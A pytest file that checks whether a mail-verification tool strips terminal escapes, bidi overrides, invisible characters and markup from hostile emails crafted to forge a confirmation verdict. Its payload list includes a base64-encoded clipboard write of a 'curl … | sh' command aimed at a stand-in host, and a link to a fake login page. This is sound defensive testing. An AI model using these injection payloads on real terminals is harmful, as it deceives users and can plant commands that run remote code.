"""Output hygiene, tried as an attacker: a mail's subject, sender and body carry terminal escapes, control
characters, bidi overrides and markup; no renderer (rich, plain, Markdown, JSON, PDF text, `inspect`, `archive list`,
`watch`'s change lines) may pass them on, and none may show a verdict the tool did not reach."""

from __future__ import annotations

import base64
import io
import json
import re
import unicodedata
from datetime import UTC, datetime
from pathlib import Path

import dkim
import pytest
from dkimkeys import TEST_KEY, TEST_SELECTOR
from helpers import run, run_json, statuses, write_config
from hypothesis import given
from hypothesis import strategies as st
from mailbuilder import DE_CONFIRMATION, EN_CONFIRMATION

from verifier.safetext import clean_block, clean_line

# The screen a victim would see if the subject could drive the terminal: the verdict below is MISSING.
FAKE_VERDICT = "Privat: CONFIRMED — lord.canterville (Instagram)\r\n\r\nNext steps:\r\n  Nothing to do."
PAYLOADS = {
    "csi_clear_screen": "\x1b[2J\x1b[H" + FAKE_VERDICT + "\x1b[8m",
    "csi_cursor_up_and_erase": "Anfrage\x1b[5A\x1b[2K\x1b[1G" + FAKE_VERDICT,
    "osc_window_title": "\x1b]0;Privat: CONFIRMED\x07Deine Anfrage",
    "osc8_hyperlink": "\x1b]8;;https://evil.example/login\x1b\\Formular\x1b]8;;\x1b\\",
    "osc52_clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07Anfrage",
    "dcs_sequence": "\x1bP+q544e\x1b\\Anfrage",
    "c1_csi_8bit": "\x9b2J\x9bH" + FAKE_VERDICT,
    "nul_bel": "Anfrage\x00\x00\x07\x07",
    "backspaces": "Anfrage" + "\x08" * 40 + FAKE_VERDICT,
    "carriage_return": "Deine Anfrage\r" + FAKE_VERDICT,
    "delete_and_nel": "a\x7fb\x85" + FAKE_VERDICT,
    "unicode_line_separators": "x\u2028Privat: CONFIRMED\u2029Nothing to do",
    "vertical_tab_form_feed": "x\x0bPrivat: CONFIRMED\x0cNothing to do",
    "bidi_override": "\u202eDEMRIFNOC :tavirP\u202c",
    "bidi_isolates_and_marks": "\u2066Privat\u2069 \u2067x\u2068 \u200f\u200e\u061c",
    "bidi_embeddings": "\u202a\u202bPrivat\u202c\u202d",
    "tag_characters": "Anfrage\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "invisible_format": "\ufeffAn\u00adfrage\u2060\u2061\u180e",
    "rich_markup": "[bold green]Privat: CONFIRMED[/bold green] [link=https://evil.example]Formular[/link]",
    "blank_letter_padding": "x" + "\u3164" * 300 + FAKE_VERDICT,
    "space_padding": "x" + " " * 300 + "\u2003" * 50 + FAKE_VERDICT,
}


def encoded(text: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


def phishing(subject: str, sender_name: str = "Instagram") -> bytes:
    """A look-alike of Meta's confirmation from a domain that is not Meta's: a warning, never evidence."""
    body = DE_CONFIRMATION.format(user="lord.canterville", to="lord.canterville@outlook.de")
    return (
        f"From: {encoded(sender_name)} <security@instagram-support.example>\r\n"
        "To: lord.canterville@outlook.de\r\n"
        f"Subject: {encoded(subject)}\r\n"
        "Date: Tue, 20 May 2025 08:00:00 +0000\r\n"
        f"Message-ID: <{abs(hash(subject))}@instagram-support.example>\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        f"{body}"
    ).encode()


def raw_control_header_mail() -> bytes:
    """The same with the controls as raw 8-bit bytes in the header, not encoded-words."""
    body = DE_CONFIRMATION.format(user="lord.canterville", to="lord.canterville@outlook.de").encode()
    return (
        b"From: Instagram\x1b[2J <security\x07@instagram-support.example>\r\nTo: lord.canterville@outlook.de\r\n"
        b"Subject: \x1b]0;owned\x07\x1b[2J\x1b[HPrivat: CONFIRMED\x00\r\n"
        b"Date: Tue, 20 May 2025 08:00:00 +0000\r\nMessage-ID: <raw\x1b[31m@x>\r\n\r\n" + body
    )


def signed_confirmation(subject: str, body_extra: str) -> bytes:
    """A genuine (test-key signed) Instagram confirmation whose subject and body carry the payloads."""
    body = EN_CONFIRMATION.format(user="lord.canterville", to="lord.canterville@outlook.de") + body_extra
    message = (
        "From: Instagram <no-reply@mail.instagram.com>\r\nTo: lord.canterville@outlook.de\r\n"
        f"Subject: {encoded(subject)}\r\nDate: Tue, 20 May 2025 08:00:00 +0000\r\n"
        "Message-ID: <signed-hostile@mail.instagram.com>\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        + body.replace("\n", "\r\n")
    ).encode()
    signature = dkim.sign(
        message,
        TEST_SELECTOR.encode(),
        b"mail.instagram.com",
        TEST_KEY.read_bytes(),
        include_headers=[b"from", b"to", b"subject", b"date", b"message-id"],
    )
    return signature + message


_SGR = re.compile(r"\x1b\[[0-9;]*m")  # rich's own colours: the only escapes a rich rendering may hold


def assert_no_controls(text: str) -> None:
    bad = sorted(
        {
            f"U+{ord(c):04X}"
            for c in text
            if (unicodedata.category(c) in ("Cc", "Cs") and c != "\n")
            or (unicodedata.category(c) == "Cf" and c not in "\u200c\u200d")
            or c in "\u2028\u2029\u3164"
        }
    )
    assert not bad, f"control or invisible characters reached the output: {bad}"


def assert_clean(text: str, *, allow_sgr: bool = False) -> None:
    """A whole output: no controls, and no line that reads like a status the tool did not give (a quoted mail
    body's lines, marked "> " in Markdown, may say anything)."""
    if allow_sgr:
        text = _SGR.sub("", text)
    assert_no_controls(text)
    assert not re.search(r"(?m)^[\s•*|-]*Privat: CONFIRMED", text), "a forged status line starts a line"
    assert not re.search(r"(?m)^[\s•*|-]*Nothing to do", text), "a forged 'nothing to do' starts a line"


def _strings(value: object):
    """Every string inside the proof's layout blocks: what the PDF lays out."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, list | tuple):
        for item in value:
            yield from _strings(item)
    elif hasattr(value, "__dataclass_fields__"):
        for name in value.__dataclass_fields__:
            yield from _strings(getattr(value, name))


@pytest.fixture
def hostile_dir(tmp_path: Path) -> Path:
    mails = tmp_path / "mails"
    mails.mkdir()
    for index, payload in enumerate(PAYLOADS.values()):
        (mails / f"{index}.eml").write_bytes(phishing(payload))
    # hostile display names too (the address is what is shown; the name must not break anything either)
    (mails / "names.eml").write_bytes(phishing("Anfrage", sender_name=PAYLOADS["csi_clear_screen"]))
    (mails / "raw.eml").write_bytes(raw_control_header_mail())
    return mails


def test_the_verdict_is_missing_and_every_warning_is_shown_clean(tmp_path, hostile_dir):
    code, document = run_json("--config", str(write_config(tmp_path, {})), "check", "--mailbox", str(hostile_dir))
    assert code == 1
    assert statuses(document)["Privat"] == "missing"
    assert len(document["warnings"]) >= len(PAYLOADS) + 1  # each mail still shown as a warning, none dropped
    assert_clean(json.dumps(document, ensure_ascii=False).replace("\\n", " "))
    for warning in document["warnings"]:
        for key in ("subject", "sender", "message_id", "folder", "location"):
            assert_no_controls(warning[key])
            assert "\n" not in warning[key]


@pytest.mark.parametrize("lang", ["en", "de"])
def test_plain_output_is_clean_and_shows_no_forged_verdict(tmp_path, hostile_dir, lang):
    config = write_config(tmp_path, {})
    result = run("--config", str(config), "--lang", lang, "check", "--mailbox", str(hostile_dir))
    assert result.exit_code == 1
    assert_clean(result.stdout)
    assert_clean(result.stderr)
    status = "FEHLT" if lang == "de" else "MISSING"
    assert re.search(rf"(?m)^Privat: {status}", result.stdout)


def _report(tmp_path: Path, mails: Path):
    from verifier.scan import check
    from verifier.session import open_session

    session = open_session(str(write_config(tmp_path, {})), f"{mails}", False, interactive=False)
    return check(session.open_source(), session.settings.groups, session.settings.imap.since).report


def test_rich_output_is_clean_and_markup_is_not_interpreted(tmp_path, hostile_dir):
    from rich.console import Console

    from verifier.i18n import Texts
    from verifier.render.terminal import render_rich

    report = _report(tmp_path, hostile_dir)
    out = io.StringIO()
    render_rich(report, Texts("en"), Console(file=out, force_terminal=True, color_system="truecolor", width=400))
    text = out.getvalue()
    assert_clean(text, allow_sgr=True)
    assert "\x1b]8;" not in text  # no hyperlink from [link=…]
    assert "[bold green]Privat: CONFIRMED[/bold green]" in text  # the markup is shown as the text it is


def test_markdown_and_json_reports_are_clean(tmp_path, hostile_dir):
    payloads = " ".join(PAYLOADS.values())
    (hostile_dir / "signed.eml").write_bytes(signed_confirmation(payloads[:900], "\n" + payloads + "\n"))
    config = write_config(tmp_path, {})
    for name in ("proof.md", "proof.json"):
        result = run("--config", str(config), "check", "--mailbox", str(hostile_dir), "--report", str(tmp_path / name))
        assert "report written" in result.stderr, result.stderr
        text = (tmp_path / name).read_text(encoding="utf-8")
        assert_clean(text.replace("\\n", " ") if name.endswith(".json") else text)
    assert "Privat" in (tmp_path / "proof.md").read_text(encoding="utf-8")


def test_pdf_text_is_clean(tmp_path, hostile_dir):
    from verifier.evidence.proof import build_proof
    from verifier.i18n import Texts
    from verifier.render.proof_content import proof_blocks

    payloads = " ".join(PAYLOADS.values())
    (hostile_dir / "signed.eml").write_bytes(signed_confirmation(payloads[:900], "\n" + payloads + "\n"))
    from verifier.scan import check
    from verifier.session import open_session

    session = open_session(str(write_config(tmp_path, {})), str(hostile_dir), False, interactive=False)
    outcome = check(session.open_source(), session.settings.groups, session.settings.imap.since)
    proof = build_proof(outcome.report, outcome.records)
    assert proof.mails, "the signed mail is evidence, quoted in the proof"
    for text in _strings(proof_blocks(proof, Texts("de"))):
        assert_no_controls(text)
    for mail in proof.mails:
        assert_no_controls(mail.text)
        assert mail.record.subject and "\x1b" not in mail.record.subject
    from pypdf import PdfReader

    from verifier.render.pdf import render_pdf

    pdf = PdfReader(io.BytesIO(render_pdf(proof, Texts("de"))))
    text = "\n".join(page.extract_text() for page in pdf.pages)
    assert "Privat" in text
    assert_no_controls(text.replace("\t", " "))


def test_inspect_text_and_json_are_clean(tmp_path, hostile_dir):
    files = sorted(str(p) for p in hostile_dir.iterdir())
    text = run("inspect", *files)
    assert_clean(text.stdout)
    document = run("inspect", "--json", *files)
    assert_clean(document.stdout.replace("\\n", " "))


def test_a_file_name_with_escapes_is_shown_clean_by_inspect(tmp_path):
    path = tmp_path / "mail\x1b[2J\x07.eml"
    path.write_bytes(phishing("x"))
    result = run("inspect", str(path), str(tmp_path / "gone\x1b]0;t\x07.eml"))
    assert result.exit_code == 2
    assert_clean(result.stdout)


def test_archive_list_and_show_are_clean_even_for_a_record_written_dirty(tmp_path):
    """An archive written by an older version (or by hand) holds raw controls: reading it cleans them."""
    import sqlite3

    from verifier.evidence.archive import Archive
    from verifier.model import Found
    from verifier.scan import classify_raw

    raw = signed_confirmation(PAYLOADS["csi_clear_screen"], "")
    archive_path = tmp_path / "evidence.sqlite"
    with Archive.open(archive_path) as archive:
        archive.store(
            [Found(classify_raw(raw), "INBOX", "imap:INBOX;UIDVALIDITY=1;UID=1", raw)], datetime.now(UTC), "s"
        )
    db = sqlite3.connect(archive_path)
    record = json.loads(db.execute("SELECT record FROM mails").fetchone()[0])
    record["subject"] = "\x1b[2J\x1b[H" + FAKE_VERDICT
    record["folder"] = "INBOX\x1b]0;x\x07"
    db.execute("UPDATE mails SET record = ?", (json.dumps(record),))
    db.commit()
    db.close()
    listed = run("archive", "--archive", str(archive_path), "list")
    assert listed.exit_code == 0, listed.output
    assert_clean(listed.stdout)
    shown = run("archive", "--archive", str(archive_path), "show", "1")
    assert_clean(shown.stdout.replace("\\n", " "))
    assert "Privat: CONFIRMED" in shown.stdout  # shown, as inert text


def test_watch_change_lines_are_clean(tmp_path, hostile_dir):
    from verifier.i18n import Texts
    from verifier.render.changes import changes
    from verifier.report import Report

    report = _report(tmp_path, hostile_dir)
    empty = Report(checked_at=report.checked_at, source="x", groups=report.groups)
    lines = changes(empty, report, Texts("de"))
    assert len(lines) >= len(PAYLOADS)
    for line in lines:
        assert_clean(line)
        assert "\n" not in line


def test_a_forwarded_senders_name_in_a_reason_is_clean():
    from verifier.i18n import Texts
    from verifier.model import Reason

    reason = Reason(code="forwarded", topic="trust", params={"sender": "a\x1b[2J\u202eb@x"})
    assert reason.params["sender"] == "ab@x"
    assert_clean(Texts("de").reason(reason))


def test_log_lines_and_errors_are_clean(tmp_path):
    config = write_config(tmp_path, {})
    result = run("--config", str(config), "check", "--mailbox", f"mbox:{tmp_path}/no\x1b[2Jsuch\x07")
    assert result.exit_code == 2
    assert_clean(result.stderr)
    assert len(result.stderr.strip().splitlines()) == 1


@given(st.text())
def test_cleaning_is_idempotent_and_leaves_nothing_harmful(text):
    line = clean_line(text)
    assert clean_line(line) == line
    assert "\n" not in line
    block = clean_block(text)
    assert clean_block(block) == block
    for cleaned in (line, block):
        assert not any(unicodedata.category(c) in ("Cc", "Cs") and c not in "\n\t" for c in cleaned)
        assert not any(unicodedata.category(c) == "Cf" and c not in "\u200c\u200d" for c in cleaned)


def test_ordinary_text_is_left_alone():
    for text in (
        "Deine Anfrage zum Widerspruch",
        "Grüße aus Köln – „Zitat“ 😀",
        "שלום עולם",
        "مرحبا",
        "👨\u200d👩\u200d👧",
    ):
        assert clean_line(text) == text
    assert clean_block("Zeile 1\n\tZeile 2\r\nZeile 3") == "Zeile 1\n\tZeile 2\nZeile 3"


def test_a_folder_name_with_escapes_is_shown_clean(tmp_path):
    """Folder names come from the server (or the file system): the evidence line and the header show them."""
    folder = tmp_path / "Junk\x1b]0;owned\x07\x1b[2J\u202e"
    folder.mkdir()
    (folder / "a.eml").write_bytes(signed_confirmation("Deine Anfrage", ""))
    result = run("--config", str(write_config(tmp_path, {})), "check", "--mailbox", str(folder))
    assert "Junk]0;owned" in result.stdout  # shown, inert
    assert "Privat: CONFIRMED" in result.stdout  # this time the verdict is real: a signed confirmation
    assert_no_controls(result.stdout)
    assert_no_controls(result.stderr)
